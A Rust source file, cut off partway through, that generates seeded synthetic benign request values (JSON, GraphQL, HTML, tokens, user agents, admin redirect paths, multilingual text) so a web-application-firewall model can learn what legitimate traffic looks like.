//! A seeded generator of modern benign request values — what real WAFs falsely block and
//! what the old-style fwaf/CSIC data lacks: JSON API fields, GraphQL documents, rich-text
//! HTML, markdown with code, passwords with symbols, JWTs and other tokens, base64,
//! analytics beacons, URLs as values, user agents, referers, free text with quotes and SQL-
//! or shell-sounding words used innocently, multilingual text.
//!
//! Everything is drawn from the word lists and templates below with a ChaCha RNG, so a seed
//! gives the same values on every platform. The hand-written corpora in `corpus/` are test
//! sets and are not used here.

use rand::seq::SliceRandom;
use rand::{Rng, SeedableRng};
use rand_chacha::ChaCha8Rng;

const WORDS: &[&str] = &[
    "order",
    "select",
    "from",
    "where",
    "table",
    "drop",
    "union",
    "update",
    "delete",
    "insert",
    "create",
    "join",
    "group",
    "by",
    "and",
    "or",
    "not",
    "null",
    "true",
    "false",
    "sleep",
    "script",
    "alert",
    "document",
    "window",
    "cat",
    "ls",
    "echo",
    "exec",
    "system",
    "shell",
    "admin",
    "root",
    "user",
    "password",
    "login",
    "file",
    "path",
    "include",
    "import",
    "run",
    "the",
    "a",
    "of",
    "to",
    "in",
    "is",
    "it",
    "you",
    "that",
    "was",
    "for",
    "on",
    "are",
    "with",
    "as",
    "his",
    "they",
    "be",
    "at",
    "one",
    "have",
    "this",
    "had",
    "by",
    "hot",
    "but",
    "some",
    "what",
    "there",
    "we",
    "can",
    "out",
    "other",
    "were",
    "all",
    "your",
    "when",
    "up",
    "use",
    "word",
    "how",
    "said",
    "an",
    "each",
    "she",
    "which",
    "do",
    "their",
    "time",
    "if",
    "will",
    "way",
    "about",
    "many",
    "then",
    "them",
    "would",
    "write",
    "like",
    "so",
    "these",
    "her",
    "long",
    "make",
    "thing",
    "see",
    "him",
    "two",
    "has",
    "look",
    "more",
    "day",
    "could",
    "go",
    "come",
    "did",
    "my",
    "sound",
    "no",
    "most",
    "number",
    "who",
    "over",
    "know",
    "water",
    "than",
    "call",
    "first",
    "people",
    "may",
    "down",
    "side",
    "been",
    "now",
    "find",
    "any",
    "new",
    "work",
    "part",
    "take",
    "get",
    "place",
    "made",
    "live",
    "after",
    "back",
    "little",
    "only",
    "round",
    "man",
    "year",
    "came",
    "show",
    "every",
    "good",
    "me",
    "give",
    "our",
    "under",
    "name",
    "very",
    "through",
    "just",
    "form",
    "much",
    "great",
    "think",
    "say",
    "help",
    "low",
    "line",
    "before",
    "turn",
    "cause",
    "same",
    "mean",
    "differ",
    "move",
    "right",
    "boy",
    "old",
    "too",
    "does",
    "tell",
    "sentence",
    "set",
    "three",
    "want",
    "air",
    "well",
    "also",
    "play",
    "small",
    "end",
    "put",
    "home",
    "read",
    "hand",
    "port",
    "large",
    "spell",
    "add",
    "even",
    "land",
    "here",
    "must",
    "big",
    "high",
    "such",
    "follow",
    "act",
    "why",
    "ask",
    "men",
    "change",
    "went",
    "light",
    "kind",
    "off",
    "need",
    "house",
    "picture",
    "try",
    "us",
    "again",
    "animal",
    "point",
    "mother",
    "world",
    "near",
    "build",
    "self",
    "earth",
    "father",
    "head",
    "stand",
    "own",
    "page",
    "should",
    "country",
    "found",
    "answer",
    "school",
    "grow",
    "study",
    "still",
    "learn",
    "plant",
    "cover",
    "food",
    "sun",
    "four",
    "thought",
    "let",
    "keep",
    "eye",
    "never",
    "last",
    "door",
    "between",
    "city",
    "tree",
    "cross",
    "since",
    "hard",
    "start",
    "might",
    "story",
    "saw",
    "far",
    "sea",
    "draw",
    "left",
    "late",
    "shoes",
    "running",
    "trail",
    "jacket",
    "waterproof",
    "size",
    "color",
    "blue",
    "black",
    "red",
    "review",
    "shipping",
    "refund",
    "invoice",
    "account",
    "billing",
    "cart",
    "checkout",
    "coupon",
    "discount",
    "deploy",
    "release",
    "bug",
    "fix",
    "feature",
    "merge",
    "branch",
    "commit",
    "query",
    "schema",
    "index",
    "cache",
    "server",
    "client",
    "request",
    "response",
    "token",
    "session",
    "cookie",
    "header",
    "error",
    "warning",
    "timeout",
];

const FIRST: &[&str] = &[
    "Anna",
    "Ben",
    "Chloé",
    "Dmitri",
    "Émilie",
    "Farah",
    "Guo",
    "Hiro",
    "Ines",
    "Jamal",
    "Kofi",
    "Lena",
    "Miguel",
    "Nora",
    "Owen",
    "Priya",
    "Quentin",
    "Rosa",
    "Sven",
    "Tariq",
    "Uma",
    "Viktor",
    "Wen",
    "Xavier",
    "Yara",
    "Zoë",
    "O'Brien",
    "D'Angelo",
    "Mary-Jane",
];
const LAST: &[&str] = &[
    "Smith",
    "O'Neil",
    "Müller",
    "García",
    "Nguyen",
    "Kowalski",
    "Rossi",
    "Dubois",
    "Ivanov",
    "Yamamoto",
    "Okafor",
    "Silva",
    "Johansson",
    "Cohen",
    "Patel",
    "van der Berg",
    "Ó Súilleabháin",
];
const DOMAINS: &[&str] = &[
    "example.com",
    "shop.example.com",
    "api.example.org",
    "cdn.example.net",
    "mail.example.co.uk",
    "docs.example.io",
    "static.example.com",
    "accounts.example.com",
    "blog.example.dev",
];
const TLDS_PATHS: &[&str] = &[
    "products", "category", "blog", "docs", "api", "v1", "v2", "users", "orders", "search",
    "account", "settings", "help", "articles", "2024", "05", "assets", "img", "static", "js",
    "css", "en-us", "de", "issues", "pulls", "repos", "acme", "web", "checkout", "cart",
];
/// Words of languages whose scripts are not Latin (and accented Latin ones), for
/// [`G::i18n_text`]: product names, addresses, notes, metadata keys in the customer's language.
const I18N_WORDS: &[&[&str]] = &[
    // Chinese
    &[
        "订单",
        "备注",
        "加急",
        "客户",
        "地址",
        "北京市",
        "朝阳区",
        "发货",
        "退款",
        "商品",
        "数量",
        "价格",
        "支付",
        "成功",
        "微信",
        "用户",
        "手机号",
        "优惠券",
        "测试",
        "谢谢",
    ],
    // Japanese
    &[
        "顧客",
        "注文",
        "番号",
        "配送",
        "東京都",
        "渋谷区",
        "お届け",
        "ありがとうございます",
        "商品名",
        "備考",
        "支払い",
        "完了",
        "カート",
        "メール",
        "確認",
        "株式会社",
        "様",
        "予約",
        "キャンセル",
        "領収書",
    ],
    // Korean
    &[
        "주문",
        "고객",
        "배송",
        "서울시",
        "강남구",
        "감사합니다",
        "결제",
        "완료",
        "상품",
        "수량",
        "문의",
        "답변",
        "회원",
        "비밀번호",
        "변경",
    ],
    // Russian
    &[
        "заказ",
        "доставка",
        "Москва",
        "улица",
        "дом",
        "квартира",
        "спасибо",
        "оплата",
        "товар",
        "количество",
        "клиент",
        "комментарий",
        "срочно",
        "возврат",
    ],
    // Arabic
    &[
        "طلب",
        "العميل",
        "عنوان",
        "الرياض",
        "شارع",
        "شكرا",
        "الدفع",
        "المنتج",
        "الكمية",
        "توصيل",
        "ملاحظة",
        "مرحبا",
    ],
    // Hebrew
    &[
        "הזמנה",
        "לקוח",
        "כתובת",
        "תל אביב",
        "רחוב",
        "תודה",
        "תשלום",
        "מוצר",
        "משלוח",
        "הערה",
    ],
    // Greek, Hindi, Thai
    &[
        "παραγγελία",
        "διεύθυνση",
        "Αθήνα",
        "ευχαριστώ",
        "ऑर्डर",
        "पता",
        "धन्यवाद",
        "भुगतान",
        "คำสั่งซื้อ",
        "ที่อยู่",
        "ขอบคุณ",
        "กรุงเทพ",
    ],
    // accented Latin
    &[
        "commande",
        "livraison",
        "reçu",
        "Straße",
        "Bestellnummer",
        "Größe",
        "dirección",
        "envío",
        "año",
        "pedido",
        "endereço",
        "ação",
        "zamówienie",
        "dostawa",
        "ulica",
        "sipariş",
        "teşekkürler",
        "đơn hàng",
        "cảm ơn",
    ],
];

const UNICODE_TEXT: &[&str] = &[
    "Grüße aus München",
    "¿Dónde está la estación?",
    "日本語のテキスト",
    "Привет, мир",
    "naïve café résumé",
    "emoji 🎉🔥👍",
    "“smart quotes” and ‘single’ ones",
    "€1.299,00 inkl. MwSt.",
    "中文搜索 测试",
    "العربية نص",
    "Ελληνικά κείμενο",
    "tiếng Việt có dấu",
];

struct G {
    rng: ChaCha8Rng,
}

impl G {
    fn pick<'a>(&mut self, items: &[&'a str]) -> &'a str {
        items.choose(&mut self.rng).copied().unwrap_or("")
    }
    fn n(&mut self, lo: u64, hi: u64) -> u64 {
        self.rng.gen_range(lo..=hi)
    }
    fn chance(&mut self, p: f64) -> bool {
        self.rng.gen_bool(p)
    }
    fn chars(&mut self, alphabet: &[u8], len: usize) -> String {
        (0..len)
            .map(|_| alphabet[self.rng.gen_range(0..alphabet.len())] as char)
            .collect()
    }
    fn words(&mut self, lo: u64, hi: u64) -> String {
        let n = self.n(lo, hi);
        (0..n)
            .map(|_| self.pick(WORDS))
            .collect::<Vec<_>>()
            .join(" ")
    }
    fn name(&mut self) -> String {
        format!("{} {}", self.pick(FIRST), self.pick(LAST))
    }
    fn email(&mut self) -> String {
        let user = self
            .pick(FIRST)
            .to_lowercase()
            .replace(['\'', 'é', 'ë', 'ö'], "");
        let sep = self.pick(&[".", "_", "+", "-", ""]);
        let tag = self.pick(&["news", "shop", "work", "2024", "x"]);
        format!("{user}{sep}{tag}@{}", self.pick(DOMAINS))
    }
    fn url(&mut self) -> String {
        let depth = self.n(0, 4);
        let mut s = format!("https://{}", self.pick(DOMAINS));
        for _ in 0..depth {
            s.push('/');
            s.push_str(self.pick(TLDS_PATHS));
        }
        if self.chance(0.3) {
            s.push_str(&format!("/{}-{}", self.pick(WORDS), self.n(1, 9999)));
        }
        if self.chance(0.5) {
            s.push_str(&format!(
                "?utm_source={}&utm_medium={}&utm_campaign={}_{}",
                self.pick(&["newsletter", "google", "facebook", "twitter"]),
                self.pick(&["email", "cpc", "social"]),
                self.pick(WORDS),
                self.n(1, 30)
            ));
        }
        if self.chance(0.2) {
            s.push_str(&format!("#{}", self.pick(WORDS)));
        }
        s
    }
    fn b64(&mut self, len: usize, url_safe: bool) -> String {
        let alpha: &[u8] = if url_safe {
            b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
        } else {
            b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
        };
        let mut s = self.chars(alpha, len);
        if !url_safe {
            while !s.len().is_multiple_of(4) {
                s.push('=');
            }
        }
        s
    }
    fn sentence(&mut self) -> String {
        let mut s = self.words(3, 14);
        if let Some(f) = s.get_mut(0..1) {
            f.make_ascii_uppercase();
        }
        let extras = [
            " (see above)",
            ", isn't it",
            " - thanks!",
            "; however",
            " & more",
            " e.g. this one",
            " 100%",
            " #1",
            " @team",
            " :)",
            " it's \"fine\"",
            " 5 * 3 = 15",
            " a/b test",
            " ~20 min",
            " [draft]",
            " {placeholder}",
            " <3",
            " -> next",
            " 2 > 1",
            " x < y",
            " don't",
            " O'Reilly's book",
            " or 1 more",
            " and/or",
        ];
        if self.chance(0.6) {
            s.push_str(self.pick(&extras));
        }
        s.push_str(self.pick(&[".", "!", "?", "...", "", ":"]));
        s
    }
    fn password(&mut self) -> String {
        let len = self.n(8, 28) as usize;
        self.chars(
            b"abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789!@#$%^&*()_+-=[]{};':\",./<>?|\\~`",
            len,
        )
    }
    fn jwt(&mut self) -> String {
        let head = self.pick(&[
            "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9",
            "eyJhbGciOiJSUzI1NiIsInR5cCI6IkpXVCIsImtpZCI6IjEifQ",
            "eyJ0eXAiOiJKV1QiLCJhbGciOiJFUzI1NiJ9",
        ]);
        let body_len = self.n(40, 300) as usize;
        let sig_len = self.n(43, 86) as usize;
        format!(
            "{head}.{}.{}",
            self.b64(body_len, true),
            self.b64(sig_len, true)
        )
    }
    fn json_scalar(&mut self) -> String {
        match self.n(0, 7) {
            0 => format!("\"{}\"", self.name()),
            1 => format!("{}", self.n(0, 100000)),
            2 => format!("{}.{}", self.n(0, 999), self.n(0, 99)),
            3 => self.pick(&["true", "false", "null"]).to_string(),
            4 => format!("\"{}\"", self.email()),
            5 => format!("\"{}\"", self.sentence().replace('"', "\\\"")),
            6 => format!("[{}, {}]", self.n(0, 9), self.n(0, 99)),
            _ => format!("\"{}\"", self.url()),
        }
    }
    fn json_object(&mut self, depth: u32) -> String {
        let n = self.n(1, 5);
        let mut parts = Vec::new();
        for _ in 0..n {
            let key = self.pick(&[
                "id", "name", "email", "items", "qty", "price", "tags", "event", "ts", "page",
                "filter", "sort", "query", "data", "meta", "user_id", "variant", "note", "props",
            ]);
            let v = if depth < 2 && self.chance(0.25) {
                self.json_object(depth + 1)
            } else {
                self.json_scalar()
            };
            parts.push(format!("\"{key}\":{v}"));
        }
        format!("{{{}}}", parts.join(","))
    }
    fn graphql(&mut self) -> String {
        let op = self.pick(&["query", "mutation"]);
        let name = self.pick(&[
            "GetUser",
            "ListOrders",
            "UpdateCart",
            "SearchProducts",
            "Viewer",
            "AddComment",
        ]);
        let field = self.pick(&["user", "orders", "cart", "search", "viewer", "repository"]);
        let sub = self.pick(&[
            "id name email",
            "edges { node { id title createdAt } } pageInfo { hasNextPage endCursor }",
            "id items { sku qty price { amount currency } }",
            "...UserFields",
            "nodes { id body author { login avatarUrl(size: 64) } }",
        ]);
        let mut s = format!("{op} {name}($id: ID!, $first: Int = 10) {{ {field}(id: $id, first: $first) {{ {sub} }} }}");
        if sub.contains("...") {
            s.push_str(" fragment UserFields on User { id login name __typename }");
        }
        if self.chance(0.3) {
            s = s.replace(' ', "\n  ");
        }
        s
    }
    fn html(&mut self) -> String {
        let mut s = String::new();
        let n = self.n(1, 5);
        for _ in 0..n {
            let text = self.sentence();
            let block = match self.n(0, 11) {
                0 => format!("<p>{text}</p>"),
                1 => format!("<p><strong>{}</strong> {text}</p>", self.words(1, 3)),
                2 => format!(
                    "<p>{} <a href=\"{}\" target=\"_blank\" rel=\"noopener\">{}</a></p>",
                    text,
                    self.url(),
                    self.words(1, 3)
                ),
                3 => format!(
                    "<img src=\"https://{}/img/{}.jpg\" alt=\"{}\" width=\"{}\">",
                    self.pick(DOMAINS),
                    self.n(1, 9999),
                    self.words(1, 4),
                    self.n(100, 1200)
                ),
                4 => format!(
                    "<ul><li>{}</li><li>{}</li></ul>",
                    self.words(1, 5),
                    self.words(1, 5)
                ),
                5 => format!("<h2>{}</h2>", self.words(1, 6)),
                6 => format!("<blockquote>{text}</blockquote>"),
                7 => format!(
                    "<p><code>{}</code> {text}</p>",
                    self.pick(&[
                        "npm install",
                        "SELECT * FROM orders",
                        "git pull --rebase",
                        "ls -la",
                        "x = y + 1"
                    ])
                ),
                8 => format!(
                    "<span style=\"color: #{:06x}; font-weight: bold;\">{text}</span>",
                    self.n(0, 0xffffff)
                ),
                9 => format!(
                    "<table><tr><td>{}</td><td>{}</td></tr></table>",
                    self.words(1, 3),
                    self.n(0, 999)
                ),
                10 => format!("<div class=\"note\"><em>{text}</em><br></div>"),
                _ => format!(
                    "<ol><li><a href=\"#{}\">{}</a></li></ol>",
                    self.pick(WORDS),
                    self.words(1, 3)
                ),
            };
            s.push_str(&block);
            if self.chance(0.5) {
                s.push('\n');
            }
        }
        s
    }
    fn markdown(&mut self) -> String {
        let mut s = String::new();
        let n = self.n(1, 5);
        for _ in 0..n {
            let t = self.sentence();
            let block = match self.n(0, 10) {
                0 => format!("# {}\n", self.words(1, 5)),
                1 => format!("{t}\n"),
                2 => format!("- [ ] {}\n- [x] {}\n", self.words(2, 5), self.words(2, 5)),
                3 => format!(
                    "**{}** _{}_ `{}`\n",
                    self.words(1, 2),
                    self.words(1, 3),
                    self.pick(WORDS)
                ),
                4 => format!(
                    "[{}]({}) and ![img]({})\n",
                    self.words(1, 3),
                    self.url(),
                    self.url()
                ),
                5 => format!("> {t}\n"),
                6 => format!(
                    "| {} | {} |\n|---|---|\n| {} | {} |\n",
                    self.pick(WORDS),
                    self.pick(WORDS),
                    self.n(0, 99),
                    self.words(1, 2)
                ),
                7 => format!(
                    "```{}\n{}\n```\n",
                    self.pick(&["js", "ts", "python", "rust", "go", "json", "yaml", ""]),
                    self.pick(&[
                        "const app = express();\napp.get('/', (req, res) => res.send('ok'));",
                        "fn main() {\n    println!(\"hello {}\", name);\n}",
                        "def handler(event, context):\n    return {\"statusCode\": 200}",
                        "for (let i = 0; i < items.length; i++) { total += items[i].price; }",
                        "if err != nil {\n\treturn fmt.Errorf(\"load: %w\", err)\n}",
                        "{\"name\": \"demo\", \"version\": \"1.2.3\"}",
                        "services:\n  web:\n    image: nginx:1.25\n    ports: [\"8080:80\"]",
                    ])
                ),
                8 => format!("1. {}\n2. {}\n", self.words(2, 6), self.words(2, 6)),
                9 => format!(
                    "See issue #{} and @{} — {}\n",
                    self.n(1, 9999),
                    self.pick(FIRST).to_lowercase(),
                    t
                ),
                _ => format!("~~{}~~ {}\n", self.words(1, 3), t),
            };
            s.push_str(&block);
        }
        s
    }
    fn user_agent(&mut self) -> String {
        let chrome = self.n(100, 131);
        match self.n(0, 7) {
            0 => format!("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{chrome}.0.0.0 Safari/537.36"),
            1 => format!("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/{}.{} Safari/605.1.15", self.n(14, 18), self.n(0, 6)),
            2 => format!("Mozilla/5.0 (X11; Linux x86_64; rv:{0}.0) Gecko/20100101 Firefox/{0}.0", self.n(100, 133)),
            3 => format!("Mozilla/5.0 (iPhone; CPU iPhone OS {}_{} like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/{}.0 Mobile/15E148 Safari/604.1", self.n(15, 18), self.n(0, 6), self.n(15, 18)),
            4 => format!("Mozilla/5.0 (Linux; Android {}; Pixel {}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{chrome}.0.0.0 Mobile Safari/537.36", self.n(10, 15), self.n(5, 9)),
            5 => format!("{}/{}.{}.{}", self.pick(&["okhttp", "Dalvik", "axios", "python-requests", "Go-http-client", "PostmanRuntime", "ShopApp iOS"]), self.n(1, 4), self.n(0, 30), self.n(0, 9)),
            6 => "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)".to_string(),
            _ => format!("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{chrome}.0.0.0 Safari/537.36 Edg/{chrome}.0.0.0"),
        }
    }
    fn path(&mut self) -> String {
        let depth = self.n(1, 5);
        let mut s = String::new();
        for _ in 0..depth {
            s.push('/');
            let seg = match self.n(0, 6) {
                0 => format!("{}", self.n(1, 999999)),
                1 => self.pick(TLDS_PATHS).to_string(),
                2 => format!(
                    "{}-{}-{}",
                    self.pick(WORDS),
                    self.pick(WORDS),
                    self.pick(WORDS)
                ),
                3 => format!(
                    "{}.{}",
                    self.pick(WORDS),
                    self.pick(&["html", "js", "css", "png", "json", "php", "jsp"])
                ),
                4 => format!("{}%20{}", self.pick(WORDS), self.pick(WORDS)),
                5 => format!("@{}", self.pick(FIRST).to_lowercase()),
                _ => format!("{}:{}", self.pick(WORDS), self.n(1, 99)),
            };
            s.push_str(&seg);
        }
        if self.chance(0.2) {
            s.push('/');
        }
        s
    }
    /// Text in the customer's language: words of one language, joined as that language
    /// writes them, often with digits, ASCII words, its own punctuation or emoji; sometimes
    /// a metadata key (`顧客ID`, `order_备注`), since keys are scored as names.
    fn i18n_text(&mut self) -> String {
        let words: &[&str] = I18N_WORDS[self.n(0, I18N_WORDS.len() as u64 - 1) as usize];
        let cjk = matches!(words.first(), Some(w) if w.chars().all(|c| c as u32 >= 0x3000));
        let n = self.n(1, 7);
        let mut parts: Vec<String> = Vec::new();
        for _ in 0..n {
            let w = self.pick(words).to_string();
            parts.push(match self.n(0, 10) {
                0 => format!("{w}{}", self.n(1, 9999)),
                1 => self.pick(WORDS).to_string(),
                2 => format!(
                    "{w}{}",
                    self.pick(&[
                        "：", "、", "。", "！", "？", "「", "」", "（", "）", "«", "»", "،", "…",
                        ":", ",", "!", "?"
                    ])
                ),
                3 => format!("{w} {}", self.pick(&["🎉", "🙏", "👍", "❤️", "✅", "📦"])),
                _ => w,
            });
        }
        let text = if cjk { parts.concat() } else { parts.join(" ") };
        match self.n(0, 8) {
            0 => format!("{}ID", self.pick(words)),
            1 => format!(
                "{}_{}",
                self.pick(&["order", "customer", "meta", "note", "field"]),
                self.pick(words)
            ),
            _ => text,
        }
    }

    /// An application's own path as a redirect target or form referer (`destination`,
    /// `next`, `return_to`, WordPress's `_wp_http_referer`): admin areas of the common
    /// CMSs and frameworks included, which every admin form posts back, and native apps'
    /// loopback OAuth redirects. The fwaf bad queries hold scanners' probes of such paths
    /// (and the SSRF lists loopback URLs), so without these the model read
    /// `destination=/admin/content` as an attack on its own.
    fn return_path(&mut self) -> String {
        let id = self.n(1, 99999);
        let mut s = match self.n(0, 14) {
            // a native app's OAuth redirect to itself (RFC 8252 loopback redirection):
            // CLIs and desktop apps listen on an ephemeral loopback port
            12 | 13 => format!(
                "http://{}:{}/{}",
                self.pick(&["127.0.0.1", "localhost", "[::1]"]),
                self.pick(&[
                    "53682", "8085", "8400", "3000", "5000", "8000", "8080", "9004", "41327",
                    "60321"
                ]),
                self.pick(&[
                    "",
                    "callback",
                    "oauth2callback",
                    "auth/callback",
                    "login/callback",
                    "?client=cli"
                ])
            ),
            0 => format!(
                "/wp-admin/{}",
                self.pick(&[
                    "post.php?post={id}&action=edit",
                    "edit.php?post_type=page",
                    "edit.php?post_type=product&paged=2",
                    "admin.php?page=wc-settings&tab=checkout",
                    "admin.php?page=wpcf7",
                    "options-general.php?settings-updated=true",
                    "upload.php?mode=list",
                    "nav-menus.php?action=edit&menu={id}",
                    "plugins.php?plugin_status=active",
                    "profile.php",
                    "edit-comments.php?comment_status=moderated",
                ])
                .replace("{id}", &id.to_string())
            ),
            1 => format!(
                "/admin/{}",
                self.pick(&[
                    "content",
                    "content?type=article&status=1",
                    "structure/types/manage/article/fields",
                    "config/system/site-information",
                    "people",
                    "reports/dblog",
                    "appearance",
                    "modules",
                ])
            ),
            2 => format!(
                "/node/{id}/{}",
                self.pick(&["edit", "revisions", "delete", "translations"])
            ),
            3 => format!(
                "/administrator/index.php?option=com_{}&view={}",
                self.pick(&["content", "users", "menus", "modules"]),
                self.pick(&["articles", "users", "items", "modules"])
            ),
            4 => format!(
                "/admin/{}/{}/{id}/change/",
                self.pick(&["auth", "shop", "blog", "orders"]),
                self.pick(&["user", "product", "post", "order"])
            ),
            5 => format!(
                "/admin/{}/edit/id/{id}/",
                self.pick(&["catalog/product", "sales/order", "customer/index"])
            ),
            6 => format!(
                "/{}/{}",
                self.pick(&[
                    "admin",
                    "dashboard",
                    "manage",
                    "settings",
                    "account",
                    "console"
                ]),
                self.pick(&[
                    "users",
                    "orders",
                    "billing",
                    "security",
                    "team",
                    "api-keys",
                    "integrations",
                    "reports"
                ])
            ),
            7 => format!(
                "/{}/{id}/{}",
                self.pick(&["projects", "orders", "tickets", "customers", "invoices"]),
                self.pick(&["edit", "settings", "activity", "files"])
            ),
            8 => format!(
                "/user/login?destination=/{}/{id}",
                self.pick(&["node", "admin/content", "dashboard"])
            ),
            9 => format!(
                "/admin/login?next={}",
                self.pick(&["/admin/", "%2Fadmin%2F", "/admin/orders/"])
            ),
            10 => self.path(),
            _ => format!(
                "/admin/{}?page={}",
                self.pick(&["users", "orders", "products", "logs"]),
                self.n(1, 40)
            ),
        };
        if self.chance(0.2) {
            s.push_str(self.pick(&[
                "#top",
                "#security",
                "#comments",
                "&tab=general",
                "&updated=1",
            ]));
        }
        s
    }

    fn search(&mut self) -> String {
        match self.n(0, 9) {
            0 => format!(
                "{}'s {}",
                self.pick(&["men", "women", "kid", "O'Reilly", "Macy"]),
                self.words(1, 3)
            ),
            1 => format!("\"{}\"", self.words(2, 4)),
            2 => format!("{} -{}", self.words(1, 3), self.pick(WORDS)),
            3 => format!("{} site:{}", self.words(1, 3), self.pick(DOMAINS)),
            4 => format!("what is {}% of {}?", self.n(1, 99), self.n(10, 999)),
            5 => self
                .pick(&[
                    "c++ tutorial",
                    "c# async await",
                    "node.js vs deno",
                    "rock & roll",
                    "a+b=c",
                    "1/2 cup sugar",
                    "4x4 tires",
                    "$19.99 deals",
                    "<3 valentine gifts",
                    "wi-fi router (5 ghz)",
                ])
                .to_string(),
            6 => self.pick(UNICODE_TEXT).to_string(),
            7 => format!(
                "{} {} {}",
                self.pick(&["how to", "why does", "best"]),
                self.pick(&[
                    "select", "drop", "update", "insert", "join", "order by", "union", "exec",
                    "cat", "script"
                ]),
                self.words(1, 3)
            ),
            _ => self.words(1, 5),
        }
    }
    fn misc_value(&mut self) -> String {
        match self.n(0, 21) {
            0 => self.password(),
            1 => self.jwt(),
            2 => {
                let l = self.n(8, 200) as usize * 4;
                self.b64(l, false)
            }
            3 => format!("{:032x}", self.rng.gen::<u128>()),
            4 => format!(
                "{:08x}-{:04x}-4{:03x}-{:04x}-{:012x}",
                self.rng.gen::<u32>(),
                self.rng.gen::<u16>(),
                self.n(0, 0xfff),
                self.n(0x8000, 0xbfff),
                self.n(0, 0xffff_ffff_ffff)
            ),
            5 => format!(
                "GA1.2.{}.{}",
                self.n(100000000, 999999999),
                self.n(1600000000, 1740000000)
            ),
            6 => format!("sk_live_{}", self.b64(24, true)),
            7 => self.json_object(0),
            8 => self.url(),
            9 => format!(
                "{}x{}",
                self.pick(&["1920", "1366", "390", "2560", "1440"]),
                self.pick(&["1080", "768", "844", "1440", "900"])
            ),
            10 => format!(
                "+{} ({}) {}-{}",
                self.n(1, 49),
                self.n(100, 999),
                self.n(100, 999),
                self.n(1000, 9999)
            ),
            11 => format!(
                "{}-{:02}-{:02}T{:02}:{:02}:{:02}.{:03}{}",
                self.n(2019, 2026),
                self.n(1, 12),
                self.n(1, 28),
                self.n(0, 23),
                self.n(0, 59),
                self.n(0, 59),
                self.n(0, 999),
                self.pick(&["Z", "+02:00", "-05:00"])
            ),
            12 => format!(
                "{}, {} {}, {} {}",
                self.n(1, 999),
                self.pick(LAST),
                self.pick(&["St.", "Ave", "Straße", "Rd #4"]),
                self.n(10000, 99999),
                self.pick(&["Springfield", "Köln", "São Paulo"])
            ),
            13 => format!(
                "{} ({}).{}",
                self.words(1, 3),
                self.pick(&["final", "v2", "1", "copy"]),
                self.pick(&["pdf", "docx", "jpg", "png", "csv"])
            ),
            14 => format!(
                "color: #{:06x}; font-size: {}px; margin: 0 auto;",
                self.n(0, 0xffffff),
                self.n(8, 40)
            ),
            15 => format!(
                "{}.{}.{}.{}",
                self.n(1, 223),
                self.n(0, 255),
                self.n(0, 255),
                self.n(1, 254)
            ),
            16 => format!(
                "{}={}; {}={}",
                self.pick(&["theme", "lang", "consent", "tz"]),
                self.pick(&["dark", "en-US", "true", "Europe/Berlin"]),
                self.pick(&["cart", "ab"]),
                self.n(0, 99999)
            ),
            17 => format!(
                "{{\"consent\":{{\"analytics\":{},\"ads\":{}}},\"v\":{}}}",
                self.chance(0.5),
                self.chance(0.5),
                self.n(1, 9)
            ),
            18 => format!("{},{},{}", self.n(0, 999), self.n(0, 999), self.n(0, 999)),
            19 => format!(
                "${},{:03}.{:02}",
                self.n(1, 99),
                self.n(0, 999),
                self.n(0, 99)
            ),
            20 => format!("{}\n{}\n{}", self.sentence(), self.name(), self.sentence()),
            _ => format!("{} <{}>", self.name(), self.email()),
        }
    }
    fn beacon(&mut self) -> String {
        let url = self.url();
        let mut s = format!(
            "v=2&tid=G-{}&cid={}.{}&dl={}&dt={}&sr=1920x1080&ul=en-us&_p={}",
            self.chars(b"ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789", 10),
            self.n(100000000, 999999999),
            self.n(1600000000, 1740000000),
            url.replace(':', "%3A")
                .replace('/', "%2F")
                .replace('?', "%3F")
                .replace('&', "%26")
                .replace('=', "%3D"),
            self.words(2, 5).replace(' ', "%20"),
            self.n(1, 999999)
        );
        if self.chance(0.5) {
            s.push_str(&format!(
                "&ep.items=%5B%7B%22id%22%3A%22{}%22%7D%5D",
                self.n(1, 9999)
            ));
        }
        s
    }

    fn code(&mut self) -> String {
        let snippets = [
            "import os\nfrom pathlib import Path\n\nROOT = Path(__file__).resolve().parent\nDEBUG = os.environ.get('DEBUG', '0') == '1'\n",
            "import { useState } from 'react';\nimport Button from '../../components/Button';\n\nexport default function App() {\n  const [n, setN] = useState(0);\n  return <Button onClick={() => setN(n + 1)}>{n}</Button>;\n}\n",
            "const url = `${API_BASE}/users/${id}?include=${fields.join(',')}`;\nconst res = await fetch(url, { headers: { Authorization: `Bearer ${token}` } });",
            "type Status = 'open' | 'closed' | 'merged';\nfunction label(s: Status): string { return s === 'open' ? 'Open' : s; }",
            "SELECT id, name, created_at\nFROM orders\nWHERE status = 'paid' AND total > 100\nORDER BY created_at DESC\nLIMIT 20;",
            "npm ci && npm run build && npm test -- --coverage",
            "docker run --rm -p 8080:80 -v $(pwd)/html:/usr/share/nginx/html nginx:alpine",
            "for f in *.log; do gzip \"$f\"; done",
            "if (user && user.roles.includes('admin')) { showPanel(); } else { redirect('/login'); }",
            "def total(items):\n    return sum(i['price'] * i.get('qty', 1) for i in items)\n",
            "fn parse(s: &str) -> Result<u32, ParseIntError> { s.trim().parse::<u32>() }",
            "<template>\n  <div class=\"card\" v-if=\"visible\">{{ title }}</div>\n</template>",
            "$ curl -s https://api.example.com/v1/status | jq '.components[] | .name'",
            "git log --oneline -n 5 && git diff HEAD~1 -- src/",
            "x = [i ** 2 for i in range(10) if i % 2 == 0]",
            "public static void main(String[] args) { System.out.println(\"Hello\"); }",
            "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<order id=\"42\"><item sku=\"A-1\" qty=\"2\"/></order>",
        ];
        let mut s = self.pick(&snippets).to_string();
